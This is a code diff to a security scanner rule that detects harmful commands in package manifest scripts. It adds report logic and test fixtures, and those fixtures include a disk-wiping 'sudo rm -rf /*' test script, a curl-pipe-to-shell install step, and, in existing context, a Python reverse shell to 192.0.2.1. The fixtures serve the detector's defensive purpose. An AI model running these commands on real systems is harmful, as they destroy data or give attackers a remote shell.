@@ -18,8 +18,9 @@ export default defineRule({
       harms: '{path}, which the package starts, {says}',
       doubtful: '{path}, which the package starts, {says}',
       brought: '{path} {says}',
+      manifest: 'The script {path} of the manifest {says}',
     },
-    bits: { installed: 14, harms: 13.5, doubtful: 7, brought: 5 },
+    bits: { installed: 14, harms: 13.5, doubtful: 7, brought: 5, manifest: 10.5 },
   },
   examples: {
     flags: [
@@ -48,8 +49,19 @@ export default defineRule({
             'import socket, os, pty\ns = socket.socket()\ns.connect(("192.0.2.1", 4444))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")\n',
         },
       },
+      {
+        title: 'the test script wipes the disk',
+        files: { 'package.json': '{"name":"a","version":"1.0.0","scripts":{"test":"sudo rm -rf /*"}}' },
+      },
     ],
     passes: [
+      {
+        title: 'scripts for the package’s authors clean, fetch and log in',
+        files: {
+          'package.json':
+            '{"name":"a","version":"1.0.0","scripts":{"clean":"rm -rf dist ../out","setup":"curl -sSf https://tool.invalid/i.sh | sh","up":"ssh me@host.invalid \\"cd $(pwd) && make\\""}}',
+        },
+      },
       {
         title: 'a script downloads, beside the package’s code, for its authors',
         files: {
@@ -83,8 +95,20 @@ export default defineRule({
       startedBy,
       sourceOf,
       shellFiles,
+      otherScripts,
       report,
     } = context;
+    const manifest = sourceOf('package.json');
+    for (const { name, commands } of manifest ? otherScripts : []) {
+      const [worst] = deedsOf(commands).filter(({ deed }) => HARMS.has(deed));
+      if (!worst || !manifest) continue;
+      const start = Math.max(0, manifest.text.indexOf(`"${name}"`));
+      report({
+        messageId: 'manifest',
+        data: { path: name, says: worst.says },
+        chain: [{ role: 'sink', says: worst.says, origin: { file: manifest, start, end: start + name.length + 2 } }],
+      });
+    }
     const commandsOf = new Map(shellFiles.map(({ file, commands }) => [file, commands]));
     for (const [path, text] of files) {
       if (typeof text !== 'string' || /\.(?:[cm]?[jt]sx?|json|md|html?|css|map)$/i.test(path)) continue;
